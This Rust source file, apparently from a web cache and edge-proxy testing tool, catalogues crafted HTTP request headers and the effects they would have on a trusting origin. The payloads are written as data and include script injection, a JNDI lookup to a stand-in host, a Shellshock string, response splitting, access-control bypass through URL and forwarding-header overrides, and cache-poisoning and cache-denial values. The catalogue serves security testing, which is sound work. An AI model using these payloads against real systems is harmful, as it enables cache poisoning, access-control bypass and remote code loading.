//! The attacks: what a client sends, and what an origin that believes it answers.

/// What an origin does that reads the field, beside saying [`super::MARK`] in its body.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Effect {
    /// Another page.
    Page,
    /// The field's own value in the page, whoever sends it.
    Echo,
    /// The field's own value in a field of the response, whoever sends it.
    EchoField,
    /// Another place to go to.
    Redirect,
    /// An error.
    Error(u16),
    /// Another origin that may read it.
    Cors,
    /// A script or style from elsewhere.
    Link,
    /// A cookie.
    Cookie,
    /// Another type.
    Type,
    /// A response that is for everyone, and for long.
    Public,
}

/// What becomes of the field on its way.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Way {
    /// The origin sees it.
    Seen,
    /// The origin does not: the edge consumes it, writes it anew, or leaves it out.
    Removed,
    /// The edge may answer what others get without asking.
    Shared,
}

pub(crate) struct Attack {
    /// As its discoverers call it, or what it does.
    pub(crate) name: &'static str,
    pub(crate) field: &'static str,
    pub(crate) value: &'static str,
    pub(crate) effect: Effect,
    pub(crate) way: Way,
}

const fn seen(name: &'static str, field: &'static str, value: &'static str, effect: Effect) -> Attack {
    Attack { name, field, value, effect, way: Way::Seen }
}

const fn removed(name: &'static str, field: &'static str, value: &'static str, effect: Effect) -> Attack {
    Attack { name, field, value, effect, way: Way::Removed }
}

const fn shared(name: &'static str, field: &'static str, value: &'static str, effect: Effect) -> Attack {
    Attack { name, field, value, effect, way: Way::Shared }
}

use Effect::{Cookie, Cors, Echo, EchoField, Error, Link, Page, Public, Redirect, Type};

/// Fields that change what is asked for, or that an application made up.
pub(crate) const PARTICULAR: &[Attack] = &[
    seen("url override by X-Original-URL", "x-original-url", "/admin", Page),
    seen("url override by X-Rewrite-URL", "x-rewrite-url", "/admin", Page),
    seen("url override that is not found", "x-original-url", "/none", Error(404)),
    seen("url override that is gone", "x-rewrite-url", "/gone", Error(410)),
    seen("host override by X-Host", "x-host", "evil.example", Link),
    seen("host override by X-HTTP-Host-Override", "x-http-host-override", "evil.example", Redirect),
    seen("host override that anyone may read", "x-host", "evil.example", Public),
    seen("path override by X-Override-Path", "x-override-path", "/logout", Redirect),
    seen("path override by X-Forwarded-Path's unprefixed kin", "x-path", "/admin", Page),
    seen("method override by X-HTTP-Method-Override", "x-http-method-override", "DELETE", Error(405)),
    seen("method override by X-HTTP-Method", "x-http-method", "HEAD", Page),
    seen("method override by X-Method-Override", "x-method-override", "POST", Error(404)),
    seen("method override that is not implemented", "x-http-method-override", "BREW", Error(501)),
    seen("debug page by X-Debug", "x-debug", "1", Page),
    seen("internal page by X-Internal", "x-internal", "true", Page),
    seen("stored script in a made-up field", "x-name", "<script>alert(1)</script>", Echo),
    seen("response splitting tried by an encoded line break", "x-name", "a%0d%0aset-cookie:b=c", Cookie),
    seen("template injection in a made-up field", "x-theme", "{{7*7}}", Page),
    seen("redirect in a made-up field", "x-return-to", "https://evil.example/", Redirect),
    seen("CORS in a made-up field", "x-cors-origin", "https://evil.example", Cors),
    seen("another tenant", "x-tenant", "other", Page),
    seen("another tenant that is for everyone", "x-tenant", "other", Public),
    seen("a token in a field of one's own", "x-shop-session", "0123456789abcdef", Echo),
    seen("another version of an app", "x-app-version", "0.0.1", Error(404)),
    seen("an upgrade of an app that is refused", "x-app-version", "0.0.2", Error(426)),
    seen("a part for HTMX", "hx-request", "true", Page),
    seen("a part for a target of HTMX", "hx-target", "evil", Page),
    seen("a part for Turbo", "turbo-frame", "evil", Page),
    seen("a part for PJAX", "x-pjax", "true", Page),
    seen("JSON for Inertia", "x-inertia", "true", Type),
    seen("a flight of React server components", "rsc", "1", Type),
    seen("a state tree of Next.js", "next-router-state-tree", "%5B%22%22%5D", Type),
    seen("a prefetch of Next.js", "next-router-prefetch", "1", Page),
    seen("an interception of Next.js", "next-url", "/evil", Page),
    seen("middleware of Next.js by its subrequests", "x-middleware-subrequest", "middleware", Page),
    seen("data of Next.js by x-nextjs-data", "x-nextjs-data", "1", Redirect),
    seen("JSON by X-Requested-With", "x-requested-with", "XMLHttpRequest", Type),
    seen("a version of Git's protocol", "git-protocol", "version=2", Page),
    seen("a stream that resumes", "last-event-id", "9999", Page),
    seen("a GET with a type", "content-type", "application/evil", Error(404)),
    seen("a preflight of Apollo", "apollo-require-preflight", "evil", Page),
    seen("a prefetch that is refused", "sec-purpose", "prefetch", Error(503)),
    seen("a prefetch of old browsers", "purpose", "prefetch", Page),
    seen("a prefetch of Firefox", "x-moz", "prefetch", Page),
    seen("a preview of Safari", "x-purpose", "preview", Page),
    seen("the script of a service worker", "service-worker", "script", Type),
    seen("a preload for a service worker", "service-worker-navigation-preload", "true", Page),
    seen("a model of a phone", "sec-ch-ua-model", "\"Evil\"", Page),
    seen("a width of a viewport", "sec-ch-viewport-width", "1", Page),
    seen("a colour scheme", "sec-ch-prefers-color-scheme", "dark", Page),
    seen("a density of pixels", "dpr", "9.9", Page),
    seen("a round trip", "rtt", "3000", Page),
    seen("a slow link", "downlink", "0.1", Page),
    seen("a slow network", "ect", "slow-2g", Page),
    seen("a small device", "device-memory", "0.25", Page),
    seen(
        "a dictionary that nobody else has",
        "available-dictionary",
        ":pZGm1Av0IEBKARczz7exkNYsZb8LzaMrV7J32a2fFG4=:",
        Page,
    ),
    seen("a sign-on of a load balancer", "x-amzn-oidc-identity", "admin", Page),
    seen("a certificate of a client", "cf-cert-subject-dn", "CN=admin", Page),
    seen("a signature", "signature", "sig=:YQ==:", Page),
    seen("what a signature covers", "signature-input", "sig=()", Page),
    seen("whose a signature is", "signature-agent", "\"https://evil.example\"", Link),
    seen("a hash of a crawler", "x-openai-host-hash", "123456789", Page),
    seen("a session of a player", "cmcd-session", "sid=\"evil\"", Page),
    seen("a request of a player", "cmcd-request", "bl=1", Page),
    seen("a field that stands in for User-Agent", "user_agent", "evil", Page),
    seen("a field that stands in for X-Original-URL", "x_original_url", "/admin", Page),
    seen("an ESI surrogate", "surrogate-capability", "evil=\"ESI/1.0\"", Page),
    seen("a language by a field of its own", "x-lang", "xx", Page),
    seen("a CPDoS by a malformed field", "x-metachar", "\\n", Error(400)),
    seen("a CPDoS by an oversized field", "x-oversized", OVERSIZED, Error(431)),
    seen("a CPDoS by a field that a firewall refuses", "x-waf", "${jndi:ldap://evil.example}", Error(403)),
    seen("a CPDoS by a field that breaks the application", "x-crash", "[", Error(500)),
];

const OVERSIZED: &str = concat!(
    "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789",
    "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789",
    "0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789"
);

/// Ordinary fields with values that no client sends: each is a particular field for that request.
pub(crate) const CRAFTED: &[Attack] = &[
    seen("a script in User-Agent", "user-agent", "<script>alert(1)</script>", Echo),
    seen("a lookup in User-Agent", "user-agent", "${jndi:ldap://evil.example}", Error(403)),
    seen("a shell in User-Agent", "user-agent", "() { :; }; echo", Page),
    seen("a short User-Agent", "user-agent", "<b>", EchoField),
    seen("a type in Accept that is not for browsers", "accept", "application/vnd.evil+json", Type),
    seen("a version in Accept", "accept", "application/json;version=99", Error(406)),
    seen("markup in Accept", "accept", "text/html;<b>", Echo),
    seen("a language that is none", "accept-language", "en;level=1", Page),
    seen("a path in Accept-Language", "accept-language", "../../evil", Link),
    seen("a character set for scripts", "accept-charset", "utf-7", Type),
    seen("a site that is none", "sec-fetch-site", "evil", Error(403)),
    seen("a mode that is none", "sec-fetch-mode", "evil", Page),
    seen("a destination that is none", "sec-fetch-dest", "evil", Page),
    seen("a user that is none", "sec-fetch-user", "?0", Page),
    seen("storage access that is none", "sec-fetch-storage-access", "evil", Page),
    seen("brands with markup", "sec-ch-ua", "\"<b>\";v=\"1\"", Echo),
    seen("mobile that is none", "sec-ch-ua-mobile", "?2", Page),
    seen("a platform that is none", "sec-ch-ua-platform", "\"Evil\"", Page),
    seen("data saved in another way", "save-data", "evil", Page),
    seen("tracking in another way", "dnt", "2", Page),
    seen("privacy in another way", "sec-gpc", "0", Page),
    seen("an upgrade in another way", "upgrade-insecure-requests", "0", Redirect),
    seen("a priority that is none", "priority", "u=8", Page),
    seen("a directive that is none", "cache-control", "evil=1", Page),
    seen("a pragma for Akamai", "pragma", "akamai-x-get-cache-key", EchoField),
    seen("an expiry that is a date", "expires", "Thu, 01 Jan 1970 00:00:00 GMT", Page),
    seen("early data in another way", "early-data", "0", Error(425)),
    seen("two mailboxes", "from", "a@evil.example, b@evil.example", Page),
    seen("an alternative service with a path", "alt-used", "a.example/evil", Link),
    seen("markup in Referer", "referer", "https://a.example/%3Cscript%3E", Page),
    seen("AppDynamics in another way", "adrum", "evil", Page),
    seen("a trace that is none", "traceparent", "evil", Page),
    seen("a trace of Elastic that is none", "elastic-apm-traceparent", "evil", Page),
    seen("a state that is none", "tracestate", "a=\"b\"", Page),
    seen("baggage that is answered by", "baggage", "tenant=7", Page),
    seen("a trace of Sentry that is none", "sentry-trace", "evil!", Page),
    seen("a request id with a path", "x-request-id", "../admin", Page),
    seen("a request id with markup", "x-requestid", "<b>", Echo),
    seen("a correlation with blanks", "x-correlation-id", "a b", Page),
    seen("another correlation with blanks", "correlation-id", "a b", Page),
    seen("a trace id with blanks", "x-trace-id", "a b", Page),
    seen("a client's request id with blanks", "x-client-request-id", "a b", Page),
    seen("Microsoft's request id with blanks", "x-ms-client-request-id", "a b", Page),
    seen("a playback with blanks", "x-playback-session-id", "a b", Page),
    seen(".NET's request id with blanks", "request-id", "a b", Page),
    seen("a context that is none", "request-context", "other=1", Page),
    seen("a b3 that is none", "b3", "evil", Page),
    seen("a trace of Zipkin that is none", "x-b3-traceid", "evil", Page),
    seen("a span of Zipkin that is none", "x-b3-spanid", "evil", Page),
    seen("a parent of Zipkin that is none", "x-b3-parentspanid", "evil", Page),
    seen("a sample of Zipkin that is none", "x-b3-sampled", "evil", Page),
    seen("flags of Zipkin that are none", "x-b3-flags", "evil", Page),
    seen("a trace of Datadog that is none", "x-datadog-trace-id", "evil", Page),
    seen("a parent of Datadog that is none", "x-datadog-parent-id", "evil", Page),
    seen("a priority of Datadog that is none", "x-datadog-sampling-priority", "evil", Page),
    seen("an origin of Datadog that is none", "x-datadog-origin", "EVIL", Page),
    seen("tags of Datadog that are none", "x-datadog-tags", "tenant=7", Page),
    seen("a trace of Jaeger that is none", "uber-trace-id", "a:b", Page),
    seen("a trace of AWS that is none", "x-amzn-trace-id", "Root=1;CalledFrom=app", Page),
    seen("a trace of Google that is none", "x-cloud-trace-context", "x/1", Page),
    seen("New Relic in another way", "newrelic", "{}", Page),
    seen("Dynatrace in another way", "x-dtpc", "<b>", Page),
];

/// Ordinary fields with ordinary values, which a response repeats: it is for this client alone.
pub(crate) const REPEATED: &[Attack] = &[
    shared(
        "a page that names the browser",
        "user-agent",
        "Mozilla/5.0 (Evil; rv:1.0) Gecko/20100101 Firefox/1.0",
        Echo,
    ),
    shared("a field that names the browser", "user-agent", "curl/8.5.0-evil", EchoField),
    shared("a page that names the languages", "accept-language", "xx,yy;q=0.9,zz;q=0.8", Echo),
    shared("a field that names the languages", "accept-language", "xx,yy;q=0.9,zz;q=0.8", EchoField),
    shared("a page that names a mailbox", "from", "evil(at)evil.example", Echo),
    shared("a page that names where its client was", "referer", "https://a.example/search?q=evil", Echo),
    shared("a field that names where its client was", "referer", "https://a.example/search/evil", EchoField),
    shared("a page that names another authority", "alt-used", "evil.example", Echo),
    shared("a page that names the brands", "sec-ch-ua", "\"Evil\";v=\"1\", \"Chromium\";v=\"142\"", Echo),
    shared("a page with a request id", "x-request-id", "evil-0123456789", Echo),
    shared(
        "a page with a trace",
        "traceparent",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        Echo,
    ),
];

/// What the edge consumes, writes anew or leaves out.
pub(crate) const REMOVED: &[Attack] = &[
    removed("X-Forwarded-Host in a link", "x-forwarded-host", "evil.example", Link),
    removed("X-Forwarded-Host in a redirect", "x-forwarded-host", "evil.example", Redirect),
    removed("X-Forwarded-Host in a page for everyone", "x-forwarded-host", "evil.example", Public),
    removed("X-Forwarded-Server", "x-forwarded-server", "evil.example", Link),
    removed("X-Forwarded-Scheme that is redirected", "x-forwarded-scheme", "nothttps", Redirect),
    removed("X-Forwarded-Proto that is redirected", "x-forwarded-proto", "nothttps", Redirect),
    removed("X-Forwarded-Protocol", "x-forwarded-protocol", "nothttps", Redirect),
    removed("X-Forwarded-Port", "x-forwarded-port", "666", Link),
    removed("X-Forwarded-Ssl", "x-forwarded-ssl", "off", Redirect),
    removed("X-Forwarded-Prefix", "x-forwarded-prefix", "/evil", Link),
    removed("X-Forwarded-User", "x-forwarded-client-cert", "CN=admin", Page),
    removed("X-Forwarded-For of an administrator", "x-forwarded-for", "127.0.0.1", Page),
    removed("an underscore for X-Forwarded-Host", "x_forwarded_host", "evil.example", Link),
    removed("an underscore for X-Forwarded-For", "x_forwarded_for", "127.0.0.1", Page),
    removed("a family of X-Forwarded", "x-forwarded-path", "/admin", Page),
    removed("Forwarded", "forwarded", "host=evil.example;proto=nothttps", Link),
    removed("True-Client-IP", "true-client-ip", "127.0.0.1", Page),
    removed("X-Real-IP", "x-real-ip", "127.0.0.1", Page),
    removed("X-Client-IP", "x-client-ip", "127.0.0.1", Page),
    removed("Client-IP", "client-ip", "127.0.0.1", Page),
    removed("X-Originating-IP", "x-originating-ip", "127.0.0.1", Page),
    removed("X-Remote-Addr", "x-remote-addr", "127.0.0.1", Page),
    removed("X-Cluster-Client-IP", "x-cluster-client-ip", "127.0.0.1", Page),
    removed("Fastly-Client-IP", "fastly-client-ip", "127.0.0.1", Page),
    removed("Front-End-Https", "front-end-https", "off", Redirect),
    removed("X-Scheme", "x-scheme", "nothttps", Redirect),
    removed("X-Url-Scheme", "x-url-scheme", "nothttps", Redirect),
    removed("CF-Connecting-IP", "cf-connecting-ip", "127.0.0.1", Page),
    removed("CF-Visitor", "cf-visitor", "{\"scheme\":\"nothttps\"}", Redirect),
    removed("CF-IPCountry", "cf-ipcountry", "XX", Page),
    removed("CF-Device-Type", "cf-device-type", "evil", Page),
    removed("CF-Bot-Score", "cf-bot-score", "1", Error(403)),
    removed("CloudFront-Viewer-Country", "cloudfront-viewer-country", "XX", Page),
    removed("CloudFront-Is-Mobile-Viewer", "cloudfront-is-mobile-viewer", "evil", Page),
    removed("CloudFront-Forwarded-Proto", "cloudfront-forwarded-proto", "nothttps", Redirect),
    removed("X-AppEngine-Country", "x-appengine-country", "XX", Page),
    removed("X-Vercel-IP-Country", "x-vercel-ip-country", "XX", Page),
    removed("a script in Referer", "referer", "javascript:alert(1)", Redirect),
    removed("a foreign Referer", "referer", "https://evil.example/", Echo),
    removed("Via, at which nginx stops compressing", "via", "1.1 evil", Page),
    removed("TE", "te", "evil", Page),
    removed("Keep-Alive", "keep-alive", "timeout=evil", Page),
    removed("Proxy-Authorization", "proxy-authorization", "Basic ZXZpbA==", Page),
    removed("an ignored cookie", "cookie", "_ga=evil.example", Echo),
];
